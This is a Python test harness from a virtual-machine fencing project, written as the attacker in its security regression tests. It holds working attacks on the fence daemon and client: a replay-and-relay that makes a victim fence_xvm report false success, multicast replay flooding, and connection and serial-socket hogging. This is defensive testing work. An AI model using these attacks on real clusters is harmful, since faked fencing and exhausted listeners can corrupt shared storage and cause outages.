#!/usr/bin/env python3
# vmfence - tests/interop/sec-attacker.py: the attacker of the security-issue-13
# tests (tests/interop/sec-*.sh).  Written from protocol.md 2.2-2.6
# (fence_req_t layout, prefix-key SHA signing, challenge/response order,
# multicast flow with connect-back).  It runs inside the network namespaces
# the calling test creates, or on loopback; every socket operation has a
# timeout, every loop is bounded in count and in time.
#
#   relay     no key: hijack a victim fence_xvm's call-back, replay its
#             sniffed signed datagram to the daemon's TCP listener, relay the
#             victim's challenge to the daemon and the daemon's answer back,
#             then tell the victim "success" (response byte 0)
#   capture   sniff one signed multicast datagram (optionally the copy that
#             carries a given call-back address) and store its raw bytes
#   flood     replay a stored datagram RATE times a second for SECS seconds,
#             optionally counting (and holding) the daemon's connect-backs
#   hog       key holder: keep N TCP connections in flight, each with a
#             validly signed request with a new seqno, never sending the
#             challenge; reopen those the daemon closes
#   serialhog the same against the serial listener: play QEMU for one
#             domain's socket, send frames with new seqnos, never read
#   serialguest  not an attacker: a well-behaved guest on another domain's
#             serial socket, sending a few status frames and timing the answers
#
# Output: "key=value" lines on stdout, the last one starting with "result".
import argparse
import errno
import hashlib
import os
import resource
import select
import socket
import struct
import sys
import time

REQ_SIZE = 176
HASHES = {"sha1": (1, hashlib.sha1), "sha256": (2, hashlib.sha256),
          "sha512": (3, hashlib.sha512)}
CMDS = {"null": 0, "off": 1, "reboot": 2, "on": 3, "status": 4, "monitor": 5,
        "list": 6}


def out(*kv, **kw):
    line = " ".join(list(kv) + ["%s=%s" % (k, v) for k, v in kw.items()])
    print(line, flush=True)


def hostport(text):
    host, _, port = text.rpartition(":")
    return host, int(port)


def sign(key, cmd, domain, seqno, hashname="sha256", addr=b"", port=0,
         family=0, addrlen=0):
    """A signed 176-byte fence_req_t (protocol.md 2.2/2.3)."""
    htype, fn = HASHES[hashname]
    head = struct.pack("<BBBB64s28sH6sII", cmd, htype, addrlen, 0,
                       domain.encode(), addr, port, os.urandom(6), seqno,
                       family)
    d = fn(key + head + b"\0" * 64).digest()
    return head + d + b"\0" * (64 - len(d))


def describe(raw):
    """Fields of a fence_req_t, for the log."""
    cmd, htype, alen, _fl, dom, addr, port, _rnd, seq, fam = struct.unpack(
        "<BBBB64s28sH6sII", raw[:112])
    a = socket.inet_ntoa(addr[:4]) if fam == 2 else addr[:alen].hex()
    return dict(cmd=cmd, hash=htype, domain=dom.rstrip(b"\0").decode(
        "ascii", "replace"), cb="%s:%d" % (a, port), seqno=seq)


def recv_exact(s, n, deadline):
    buf = b""
    while len(buf) < n:
        left = deadline - time.monotonic()
        if left <= 0:
            raise socket.timeout("deadline")
        s.settimeout(left)
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("peer closed after %d of %d bytes"
                                  % (len(buf), n))
        buf += chunk
    return buf


def mcast_socket(group, port, ifaddr, timeout):
    """UDP socket bound to GROUP:PORT, joined on the interface of IFADDR."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((group, port))
    mreq = socket.inet_aton(group) + socket.inet_aton(ifaddr)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    s.settimeout(timeout)
    return s


def sniff(s, want_cb, deadline, max_datagrams=1000):
    """First 176-byte datagram (with call-back address WANT_CB if set)."""
    for _ in range(max_datagrams):
        left = deadline - time.monotonic()
        if left <= 0:
            return None
        s.settimeout(left)
        try:
            raw, _src = s.recvfrom(4096)
        except socket.timeout:
            return None
        if len(raw) != REQ_SIZE:
            continue
        if want_cb and describe(raw)["cb"].split(":")[0] != want_cb:
            continue
        return raw
    return None


# ---- relay ----------------------------------------------------------------
def connect_first(target, deadline, max_tries):
    """Connect to TARGET as soon as something listens there (the victim's
    call-back port): retry refused connects without pause, bounded."""
    for n in range(1, max_tries + 1):
        if time.monotonic() >= deadline:
            break
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(1.0)
        try:
            s.connect(target)
            return s, n
        except OSError as e:
            s.close()
            if e.errno not in (errno.ECONNREFUSED, errno.ECONNRESET,
                               errno.ETIMEDOUT, None):
                raise
            if n % 2000 == 0:
                time.sleep(0.001)
    return None, max_tries


def relay(a):
    deadline = time.monotonic() + a.secs
    sniffer = mcast_socket(a.group, a.mport, a.ifaddr, 1.0)
    out("ready")
    victim, tries = connect_first(hostport(a.victim), deadline, 5000000)
    if victim is None:
        out("result=no-victim", tries=tries)
        return 1
    out("victim-connected", tries=tries)
    raw = sniff(sniffer, None, deadline)
    if raw is None:
        out("result=no-datagram")
        return 1
    out("sniffed", **describe(raw))
    try:
        c1 = recv_exact(victim, 64, deadline)     # the victim challenges first
    except (OSError, socket.timeout) as e:
        out("result=victim-silent", error=type(e).__name__)
        return 1
    out("victim-challenge-read")
    answer = None
    why = "?"
    for attempt in range(1, a.tries + 1):    # a duplicate gets no answer: retry
        if time.monotonic() >= deadline:
            break
        try:
            d = socket.create_connection(hostport(a.daemon), timeout=3.0)
        except OSError as e:
            why = "connect: %s" % e
            time.sleep(0.2)
            continue
        try:
            d.sendall(raw)
            d.sendall(c1)
            answer = recv_exact(d, 64, min(deadline, time.monotonic() + 12))
            out("daemon-answered", attempt=attempt)
            try:                     # the daemon's own challenge: unanswerable
                recv_exact(d, 64, time.monotonic() + 2)
                out("daemon-challenged")
            except (OSError, socket.timeout):
                pass
            break
        except (OSError, socket.timeout) as e:
            why = "%s: %s" % (type(e).__name__, e)
            out("daemon-refused", attempt=attempt, why=why.replace(" ", "_"))
            time.sleep(0.3)
        finally:
            d.close()
    try:
        if answer is None:
            # nothing to relay: give the victim a wrong answer and stop
            victim.sendall(os.urandom(64))
            out("result=no-daemon-answer")
            return 3
        victim.sendall(answer)                     # passes the victim's check
        victim.sendall(os.urandom(64))             # "our" challenge
        swallowed = recv_exact(victim, 64, deadline)
        victim.sendall(b"\0")                      # RESP_SUCCESS: a lie
        out("victim-answer-swallowed", bytes=len(swallowed))
        # let the victim read the byte before the close
        time.sleep(0.5)
        out("result=false-success-sent")
        return 0
    except (OSError, socket.timeout) as e:
        out("result=victim-dropped-us", error=type(e).__name__)
        return 2
    finally:
        victim.close()


# ---- capture / flood ------------------------------------------------------
def capture(a):
    s = mcast_socket(a.group, a.mport, a.ifaddr, 1.0)
    out("ready")
    raw = sniff(s, a.cb_addr, time.monotonic() + a.secs)
    if raw is None:
        out("result=nothing")
        return 1
    with open(a.file, "wb") as f:
        f.write(raw)
    out("result=captured", **describe(raw))
    return 0


def raise_nofile(want):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < want:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
        except (ValueError, OSError):
            pass
    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]


def flood(a):
    raw = open(a.file, "rb").read(REQ_SIZE)
    lst = None
    held = []
    accepted = 0
    if a.count_port:
        raise_nofile(a.max_hold + 64)
        lst = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        lst.bind(("0.0.0.0", a.count_port))
        lst.listen(128)
        lst.setblocking(False)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 2)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF,
                 socket.inet_aton(a.ifaddr))
    out("ready")

    def drain():
        nonlocal accepted
        if lst is None:
            return
        for _ in range(256):
            try:
                c, _peer = lst.accept()
            except (BlockingIOError, InterruptedError):
                return
            accepted += 1
            if len(held) < a.max_hold:
                held.append(c)     # hold it: the daemon waits on it
            else:
                c.close()

    start = time.monotonic()
    end = start + a.secs
    total = int(a.rate * a.secs)
    sent = 0
    while sent < total and time.monotonic() < end + 1:
        due = start + sent / a.rate
        now = time.monotonic()
        if due > now:
            time.sleep(min(due - now, 0.01))
            drain()
            continue
        try:
            s.sendto(raw, (a.group, a.mport))
            sent += 1
        except OSError:
            time.sleep(0.001)
        if sent % 50 == 0:
            drain()
    out("flood-done", sent=sent, secs="%.1f" % (time.monotonic() - start),
        accepted_so_far=accepted)
    grace_end = time.monotonic() + a.grace
    while time.monotonic() < grace_end:
        drain()
        time.sleep(0.02)
    for c in held:
        c.close()
    out("result=done", sent=sent, connect_backs=accepted)
    return 0


# ---- hog -------------------------------------------------------------------
def hog(a):
    key = open(a.key, "rb").read(4096)
    raise_nofile(a.conns + 64)
    dst = hostport(a.daemon)
    seq = int(time.time() * 1e6) % 500000 + 1
    live = []
    opened = failed = closed_by_daemon = 0
    end = time.monotonic() + a.secs
    first_full = None

    def open_one():
        nonlocal opened, failed, seq
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(0.5)
        try:
            s.bind((a.src, 0))
            s.connect(dst)
            seq = seq % 999999 + 1
            s.sendall(sign(key, CMDS["status"], a.domain, seq))
            s.setblocking(False)
            live.append(s)
            opened += 1
            return True
        except OSError:
            s.close()
            failed += 1
            return False

    rounds = 0
    while time.monotonic() < end and rounds < 100000:
        rounds += 1
        keep = []
        for s in live:
            try:
                d = s.recv(256)
                if d == b"":           # the daemon closed it
                    closed_by_daemon += 1
                    s.close()
                    continue
                # the daemon's answer to a challenge we never sent cannot
                # come; anything else is ignored, the connection stays idle
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                closed_by_daemon += 1
                s.close()
                continue
            keep.append(s)
        live = keep
        # fill quickly, then reopen at most 8 per round (400/s), so that a
        # daemon refusing the surplus at once does not use up max_total
        budget = min(a.conns - len(live), 64 if first_full is None else 8)
        for _ in range(budget):
            if opened + failed >= a.max_total or time.monotonic() >= end:
                break
            if not open_one():
                break
        if first_full is None and len(live) >= a.conns:
            first_full = time.monotonic()
            out("in-flight", conns=len(live))
        time.sleep(0.02)
    n_live = len(live)
    for s in live:
        s.close()
    out("result=done", opened=opened, connect_failed=failed,
        closed_by_daemon=closed_by_daemon, live_at_end=n_live)
    return 0


def serialhog(a):
    """Play QEMU for one domain: listen on its serial socket, let the daemon
    connect, then send 74-byte frames with new seqnos and never read."""
    c = serial_listen(a.sock, a.wait)
    if c is None:
        out("result=daemon-never-connected")
        return 1
    out("connected")
    c.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    c.setblocking(False)
    seq = int(time.time() * 1e6) % 500000 + 1
    sent = 0
    end = time.monotonic() + a.secs
    while time.monotonic() < end and sent < a.max_frames:
        seq = seq % 999999 + 1
        frame = struct.pack("<IBB64sI", 0x61626261, CMDS["status"], 0,
                            a.domain.encode(), seq)
        try:
            c.send(frame)
            sent += 1
        except (BlockingIOError, InterruptedError):
            time.sleep(0.01)       # the daemon's replies fill our buffer
        except OSError:
            break
        if sent % 100 == 0:
            time.sleep(0.001)
    c.close()
    out("result=done", frames=sent)
    return 0


def serial_listen(path, wait):
    if os.path.exists(path):
        os.unlink(path)
    lst = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    lst.bind(path)
    lst.listen(4)
    lst.settimeout(wait)
    out("ready")
    try:
        c, _ = lst.accept()
    except socket.timeout:
        return None
    return c


def serialguest(a):
    c = serial_listen(a.sock, a.wait)
    if c is None:
        out("result=daemon-never-connected")
        return 1
    out("connected")
    time.sleep(a.delay)
    magic = struct.pack("<I", 0x61626261)
    seq = int(time.time() * 1e6) % 500000 + 700000
    ok = 0
    for n in range(1, a.count + 1):
        seq += 1
        t0 = time.monotonic()
        c.sendall(struct.pack("<IBB64sI", 0x61626261, CMDS["status"], 0,
                              a.domain.encode(), seq))
        deadline = t0 + a.timeout
        win = b""
        resp = None
        try:
            while win != magic:
                win = (win + recv_exact(c, 1, deadline))[-4:]
            resp = recv_exact(c, 1, deadline)[0]
        except (OSError, socket.timeout):
            pass
        ms = int((time.monotonic() - t0) * 1000)
        out("request", n=n, resp=resp, ms=ms)
        if resp == 0:
            ok += 1
        time.sleep(a.pause)
    c.close()
    out("result=done", answered_on=ok, of=a.count)
    return 0


def main():
    p = argparse.ArgumentParser(description=__doc__)
    sub = p.add_subparsers(dest="mode", required=True)

    r = sub.add_parser("relay")
    r.add_argument("--victim", required=True, help="HOST:PORT call-back port")
    r.add_argument("--daemon", required=True, help="HOST:PORT tcp listener")
    r.add_argument("--group", default="225.0.0.12")
    r.add_argument("--mport", type=int, default=1229)
    r.add_argument("--ifaddr", required=True, help="join on this address")
    r.add_argument("--tries", type=int, default=5)
    r.add_argument("--secs", type=float, default=20.0)

    c = sub.add_parser("capture")
    c.add_argument("--file", required=True)
    c.add_argument("--group", default="225.0.0.12")
    c.add_argument("--mport", type=int, default=1229)
    c.add_argument("--ifaddr", required=True)
    c.add_argument("--cb-addr", default=None)
    c.add_argument("--secs", type=float, default=15.0)

    f = sub.add_parser("flood")
    f.add_argument("--file", required=True)
    f.add_argument("--group", default="225.0.0.12")
    f.add_argument("--mport", type=int, default=1229)
    f.add_argument("--ifaddr", required=True)
    f.add_argument("--rate", type=float, default=1000.0)
    f.add_argument("--secs", type=float, default=8.0)
    f.add_argument("--count-port", type=int, default=0)
    f.add_argument("--max-hold", type=int, default=2000)
    f.add_argument("--grace", type=float, default=2.0)

    h = sub.add_parser("hog")
    h.add_argument("--daemon", required=True)
    h.add_argument("--src", default="127.0.0.2")
    h.add_argument("--key", required=True)
    h.add_argument("--domain", default="vm1")
    h.add_argument("--conns", type=int, default=300)
    h.add_argument("--secs", type=float, default=12.0)
    h.add_argument("--max-total", type=int, default=3000)

    s = sub.add_parser("serialhog")
    s.add_argument("--sock", required=True)
    s.add_argument("--domain", required=True)
    s.add_argument("--wait", type=float, default=10.0)
    s.add_argument("--secs", type=float, default=12.0)
    s.add_argument("--max-frames", type=int, default=20000)

    g = sub.add_parser("serialguest")
    g.add_argument("--sock", required=True)
    g.add_argument("--domain", required=True)
    g.add_argument("--wait", type=float, default=10.0)
    g.add_argument("--delay", type=float, default=2.0)
    g.add_argument("--count", type=int, default=2)
    g.add_argument("--pause", type=float, default=1.0)
    g.add_argument("--timeout", type=float, default=10.0)

    a = p.parse_args()
    return {"relay": relay, "capture": capture, "flood": flood, "hog": hog,
            "serialhog": serialhog, "serialguest": serialguest}[a.mode](a)


if __name__ == "__main__":
    sys.exit(main())
